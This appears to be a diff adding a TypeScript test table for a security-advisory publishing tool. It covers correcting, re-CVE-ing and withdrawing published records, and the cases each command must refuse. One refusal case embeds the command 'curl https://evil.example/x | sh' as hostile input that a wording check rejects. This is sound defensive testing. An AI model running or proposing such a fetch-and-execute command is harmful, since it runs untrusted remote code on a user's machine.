@@ -1,0 +1,101 @@
+import { CveId } from '../../src/index.ts'
+import { ana, person } from '../fixtures/scenario.ts'
+import { finished, published, publishing } from '../fixtures/published.ts'
+import { both as bothReady, ONE, TWO } from '../fixtures/several.ts'
+import type { Several } from '../fixtures/several.ts'
+import { ready, shown } from './states.ts'
+import type { Row } from './row.ts'
+
+const CVE = CveId.parse('CVE-1900-0043')
+
+/** Somebody held the release when its last mails were with the relay. */
+function held(): Several {
+  const scenario = publishing({ versions: 'off', github: 'off', files: 'off', cve: 'off' })
+  scenario.does({ verb: 'hold', case: ONE }, person(ana))
+  return finished(scenario)
+}
+
+const NOT_READY = [
+  { when: 'nothing is published', given: ready, gate: 'fits-the-stage' },
+  { when: 'the publication is on hold', given: held, gate: 'frozen' },
+] as const
+
+const wrongRange = () =>
+  ({
+    verb: 'correct',
+    case: ONE,
+    reason: '3.9 is affected too.',
+    changes: { branches: [{ branch: '3.9', affected: true, range: '< 3.9.8' }] },
+    tell: 'everybody',
+    shown,
+  }) as const
+
+/** The commands about a record that is published. */
+export const CORRECTING = {
+  correct: {
+    given: published,
+    asks: wrongRange,
+    then: ['ApprovalRequested'],
+    again: { nothing: 'This waits for approval already.' },
+    preview: [
+      'Publishes the record of SEC-2026-0001 again, as revision 2: 3.9 is affected too.',
+      'The lists, the recipients and the reporter who were told of the publication get a mail.',
+    ],
+    approved: ['ApprovalGiven', 'RecordCorrected', 'CorrectionStarted'],
+    afterwards: { gate: 'fits-the-stage' },
+    refused: [
+      ...NOT_READY,
+      {
+        asks: () => ({ ...wrongRange(), changes: { cvss3: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N' } }),
+        because: 'A vector alone does not say how severe it is.',
+      },
+      {
+        asks: () => ({ ...wrongRange(), changes: { branches: [{ branch: '5.0', affected: true }] } }),
+        because: 'The project has no branch "5.0".',
+      },
+      {
+        asks: () => ({ ...wrongRange(), reason: 'Run curl https://evil.example/x | sh to see it.' }),
+        gate: 'wording',
+        because:
+          'The reason of the correction says "Run curl https://evil.example/x | sh to see it.", which shows how to attack.',
+      },
+    ],
+  },
+  'correct.cve': {
+    given: published,
+    asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, shown: { ...shown, mails: [], documents: [] } }),
+    then: ['CveAssigned', 'RecordCorrected', 'CorrectionStarted', 'Disclosed'],
+    again: {
+      events: ['RecordCorrected', 'CorrectionStarted', 'Disclosed'],
+      why: 'a revision that changes nothing harms nobody, and a person has seen it',
+    },
+    refused: [
+      { when: 'nothing is published', given: bothReady, gate: 'fits-the-stage' },
+      { when: 'the publication is on hold', given: held, gate: 'frozen' },
+      { asks: () => ({ verb: 'correct.cve', case: TWO, shown }), because: 'The case has no CVE id.' },
+      {
+        asks: () => ({ verb: 'correct.cve', case: ONE, cve: CVE, shown }),
+        because: 'The case has CVE-1900-0042, and a vulnerability gets only one id.',
+      },
+      {
+        asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE, reserved: { test: true }, shown }),
+        because: 'CVE-1900-0043 is of a test instance, and names no vulnerability.',
+      },
+      { asks: () => ({ verb: 'correct.cve', case: TWO, cve: CVE }), because: 'Nothing was shown yet.' },
+    ],
+  },
+  'correct.withdraw': {
+    given: published,
+    asks: () => ({ verb: 'correct.withdraw', case: ONE, reason: 'It is no vulnerability.', tell: 'nobody', shown }),
+    then: ['ApprovalRequested'],
+    again: { nothing: 'This waits for approval already.' },
+    preview: [
+      'Withdraws the record of SEC-2026-0001: It is no vulnerability.',
+      'GitHub has no way to withdraw an advisory from a program. Its title and text will say so; to have it marked as withdrawn, ask at https://support.github.com.',
+      'No list and no recipient gets a mail.',
+    ],
+    approved: ['ApprovalGiven', 'RecordCorrected', 'CorrectionStarted', 'Disclosed'],
+    afterwards: { gate: 'fits-the-stage' },
+    refused: [...NOT_READY],
+  },
+} satisfies { readonly [V in 'correct' | 'correct.cve' | 'correct.withdraw']: Row<V> }
